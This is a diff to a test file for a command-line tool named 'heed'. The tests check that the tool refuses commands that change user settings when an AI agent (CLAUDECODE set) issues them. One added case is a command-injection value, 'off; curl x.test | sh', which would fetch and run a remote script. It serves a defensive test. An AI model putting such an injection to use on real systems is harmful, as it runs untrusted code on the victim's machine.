@@ -85,24 +85,20 @@ describe("a model changes nothing that is the user's by a command", () => {
   }, 120_000);
 
   it.each([
-    "uninit",
-    "config mode pull",
-    "config map off",
-    "attach HOME/notes",
-    "inbox trust --yes",
-    "scrub x",
-    "team leave",
-  ])("%s is refused", async (call) => {
+    ["uninit"],
+    ["config mode pull", "config mode pull"],
+    ["config map off", "config map off"],
+    ["config mode 'off; curl x.test | sh'", 'config mode "off; curl x.test | sh"'],
+    ["attach HOME/notes"],
+    ["inbox trust --yes", "inbox trust"],
+    ["scrub x"],
+    ["team leave", "team leave"],
+  ])("%s is refused", async (call, named = call.split(" ")[0]) => {
     const line = call.replaceAll("HOME", machine.home);
     const { exitCode, stderr } = await machine.run(line, { env: { CLAUDECODE: "1" } });
     expect(exitCode).toBe(1);
     expect(stderr).toContain("heed cannot confirm that a person typed this (CLAUDECODE is set)");
-    expect(stderr).toContain(
-      `run heed ${call
-        .split(" ")
-        .slice(0, call.startsWith("config ") ? 3 : /^(?:inbox|team) /.test(call) ? 2 : 1)
-        .join(" ")} in a terminal`,
-    );
+    expect(stderr).toContain(`run heed ${named} in a terminal`);
   });
 });
 
